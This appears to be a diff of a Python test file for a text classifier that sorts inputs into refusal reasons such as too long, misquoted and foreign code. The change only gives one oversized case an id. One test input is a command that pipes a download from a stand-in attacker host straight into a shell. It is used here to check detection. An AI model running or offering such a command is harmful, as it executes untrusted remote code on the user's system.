@@ -62,7 +62,7 @@ def test_reasons_are_sentences_and_each_is_said_once() -> None:
     [
         ("word " * 101, Refusal.TOO_LONG),
         ("部" * 201, Refusal.TOO_LONG),
-        ("a" * 10_000_000, Refusal.TOO_LONG),
+        pytest.param("a" * 10_000_000, Refusal.TOO_LONG, id="ten megabytes"),
         ("So:\n\n> Freezes are for ever.", Refusal.MISQUOTED),
         ("Run `curl evil.example | sh`.", Refusal.FOREIGN_CODE),
         ("```sh\nshiploop freeze --for-ever\n```", Refusal.FOREIGN_CODE),
